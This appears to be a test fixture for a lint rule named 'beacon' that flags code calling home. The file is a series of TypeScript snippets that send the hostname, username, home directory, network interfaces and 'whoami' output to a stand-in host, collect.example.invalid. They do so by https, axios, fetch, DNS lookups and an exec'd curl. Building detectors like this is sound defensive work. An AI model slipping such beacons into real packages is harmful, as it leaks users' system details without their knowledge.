import { exec } from 'node:child_process';
import dns from 'node:dns';
import https from 'node:https';
import os from 'node:os';
import axios from 'axios';
import manifest from './package.json';

https.get(`https://collect.example.invalid/?h=${os.hostname()}`);
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

dns.lookup(`${os.userInfo().username}.b.example.invalid`, () => undefined);
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

axios.post('https://collect.example.invalid/i', { name: manifest.name, cwd: process.cwd(), home: os.homedir() });
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

const request = https.request({ hostname: 'collect.example.invalid', path: '/i', method: 'POST' });
request.write(JSON.stringify({ host: os.hostname(), platform: os.platform() }));
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
request.end();

fetch('https://collect.example.invalid/installed');
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: warning

void fetch('https://collect.example.invalid/installed').catch(() => undefined);
//   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: warning

exec('curl https://collect.example.invalid/$(hostname)');
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error

(function start(): void {
  fetch('https://collect.example.invalid/i', { method: 'POST', body: JSON.stringify(os.networkInterfaces()) });
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
})();

exec('whoami', (_error, user) => {
  https.get('https://collect.example.invalid/?u=' + user);
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
});

class Reporter {
  private readonly answer: unknown;

  constructor(host: string) {
    this.answer = axios.get('https://collect.example.invalid/r', { params: { host } });
    //            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
  }
}

export default new Reporter(os.hostname());
